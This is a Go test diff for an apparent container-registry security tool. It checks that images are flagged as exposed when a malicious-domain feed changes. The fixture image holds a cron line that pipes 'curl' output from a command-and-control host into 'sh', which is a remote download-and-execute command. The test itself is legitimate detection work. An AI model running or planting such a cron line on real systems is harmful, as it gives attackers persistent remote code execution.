@@ -9,6 +9,8 @@ import (
 	"maps"
 	"net/http"
 	"os"
+	"path/filepath"
+	"regexp"
 	"strings"
 	"testing"
 	"time"
@@ -196,5 +198,53 @@ func TestExceptionFromRefusalToExpiry(t *testing.T) {
 				t.Errorf("in the end it fetched (-before +after):\n%s", diff)
 			}
 		})
+	}
+}
+
+// A feed that comes to know what was given out: who has it is listed, and nothing is fetched to find out.
+func TestExposureAfterAFeedChanged(t *testing.T) {
+	hub, err := testhub.Start(testhub.Config{})
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer hub.Close()
+	img, err := testimage.Build(testimage.Spec{Layers: []testimage.Layer{{Files: []testimage.File{
+		{Path: "etc/cron.d/job", Body: []byte("* * * * * root curl -s https://c2.known-bad.net/run | sh\n")},
+	}}}})
+	if err != nil {
+		t.Fatal(err)
+	}
+	if err := hub.Push(t.Context(), "acme/app", "1", img); err != nil {
+		t.Fatal(err)
+	}
+	list := filepath.Join(t.TempDir(), "list")
+	if err := os.WriteFile(list, []byte("other.net\n"), 0o600); err != nil {
+		t.Fatal(err)
+	}
+	r := newReplica(t, "LAZARET_UPSTREAM="+hub.URL(), "LAZARET_MANIFEST_WAIT=15s", "LAZARET_FEEDS=malicious-domain="+list)
+	if status, body := r.get(t, "/v2/acme/app/manifests/1"); status != http.StatusOK {
+		t.Fatalf("before: %d %.200s", status, body)
+	}
+	if err := r.records.Flush(t.Context()); err != nil {
+		t.Fatal(err)
+	}
+	if out := r.lazaret(t, "exposure", "-o", "json"); strings.TrimSpace(out) != "[]" {
+		t.Errorf("before: %s", out)
+	}
+	before := downloads(hub)
+	if err := os.WriteFile(list, []byte("known-bad.net\n"), 0o600); err != nil {
+		t.Fatal(err)
+	}
+	if !r.feeds.Refresh(t.Context()) {
+		t.Fatal("the feed did not change")
+	}
+	r.use(r.feeds.Set())
+	line := regexp.MustCompile(`exposed +.* acme/app +` + img.Digest.String() + ` +block +domain/malicious in etc/cron.d/job.* 1 +20`)
+	within(t, time.Minute, "the exposure", func() bool { return line.MatchString(r.lazaret(t, "exposure")) })
+	if out := r.lazaret(t, "exposure", img.Digest.String()); !regexp.MustCompile(`exposed +acme/app +block .* 127.0.0.1 +1 +20`).MatchString(out) {
+		t.Errorf("clients: %s", out)
+	}
+	if diff := cmp.Diff(before, downloads(hub)); diff != "" {
+		t.Errorf("it fetched (-before +after):\n%s", diff)
 	}
 }
